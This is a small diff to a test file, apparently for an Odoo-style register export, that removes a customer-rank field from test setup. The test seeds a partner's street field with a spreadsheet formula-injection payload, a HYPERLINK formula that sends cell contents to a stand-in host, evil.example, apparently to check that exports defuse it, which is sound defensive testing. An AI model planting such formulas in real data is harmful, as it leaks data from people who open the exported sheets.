@@ -23,7 +23,7 @@ class TestHostileRegisterExport(RegisterCase, HttpCase):
             self.env, login="fm_portal_it", name="Piero Portale", groups="base.group_portal"
         )
         partner = portal_user.partner_id
-        partner.write({"country_id": self.italy.id, "customer_rank": 1})
+        partner.write({"country_id": self.italy.id})
         street = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
         values = {
             "name": "Piero Portale",
